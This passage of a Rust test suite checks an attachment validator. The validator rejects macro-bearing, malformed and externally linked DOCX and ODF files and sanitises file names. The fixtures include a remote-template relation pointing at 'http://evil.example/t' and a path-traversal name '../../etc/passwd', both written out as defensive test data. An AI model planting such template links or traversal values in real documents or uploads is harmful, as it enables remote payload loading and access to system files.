                word_with("word/_rels/document.xml.rels", br#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="chunk.html"/></Relationships>"#),
            ),
            (
                "an entry left out of the end record's count",
                {
                    let mut z = zip(&[
                        ("[Content_Types].xml", b"<Types/>"),
                        ("word/document.xml", b"<w:document/>"),
                        ("word/_rels/settings.xml.rels", br#"<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/></Relationships>"#),
                    ]);
                    let end = z.len() - 22;
                    z[end + 8] = 2;
                    z[end + 10] = 2;
                    z
                },
            ),
            (
                "word with macros in capitals",
                zip(&[
                    ("[Content_Types].xml", b"<Types/>"),
                    ("word/document.xml", b"<w:document/>"),
                    ("word/VBAPROJECT.BIN", b"\xD0\xCF"),
                ]),
            ),
            (
                "ODF text with Basic macros",
                zip(&[
                    ("mimetype", ODT_MIMETYPE),
                    ("content.xml", b"<x/>"),
                    ("Basic/Standard/Module1.xml", b"<script:module/>"),
                ]),
            ),
            (
                "an ODF spreadsheet",
                zip(&[(
                    "mimetype",
                    b"application/vnd.oasis.opendocument.spreadsheet",
                )]),
            ),
            ("a cut-off zip", docx[..docx.len() - 30].to_vec()),
            ("a zip header alone", b"PK\x03\x04".to_vec()),
        ] {
            assert_eq!(sniff(&bytes), None, "{what}");
        }
        // A central directory that claims more entries than it holds is not read past its end.
        let mut lying = docx.clone();
        let n = lying.len();
        lying[n - 12..n - 10].copy_from_slice(&u16::MAX.to_le_bytes());
        assert_eq!(sniff(&lying), None);
        assert_eq!(
            file_name("Loppuraportti 2025 / Lahti", FileKind::Pdf),
            "Loppuraportti-2025-Lahti.pdf"
        );
        assert_eq!(
            file_name("../../etc/passwd\"", FileKind::Odt),
            "etc-passwd.odt"
        );
        assert_eq!(file_name("  ", FileKind::Png), "liite.png");
        assert_eq!(
            check_attachment(" Loppuraportti\u{202E} ", b"%PDF-1.7", 0),
            Ok((FileKind::Pdf, "Loppuraportti".to_string()))
        );
        assert_eq!(
            check_attachment("", b"%PDF-1.7", 0),
            Err(("title", "attachments-error-title"))
        );
        assert_eq!(
            check_attachment("x", b"%PDF-1.7", MAX_ATTACHMENTS),
            Err(("file", "attachments-error-full"))
        );
        assert_eq!(
            check_attachment("x", b"", 0),
            Err(("file", "attachments-error-file"))
        );
        assert_eq!(
            check_attachment("x", &vec![b'%'; MAX_ATTACHMENT_BYTES + 1], 0),
            Err(("file", "attachments-error-size"))
        );
        assert_eq!(
            check_attachment("x", b"<html>", 0),
            Err(("file", "attachments-error-type"))
        );
        // Types round-trip through what is stored.
        for k in [
            FileKind::Pdf,
            FileKind::Png,
            FileKind::Jpeg,
            FileKind::Docx,
            FileKind::Odt,
        ] {
            assert_eq!(FileKind::from_content_type(k.content_type()), Some(k));
        }
    }
}
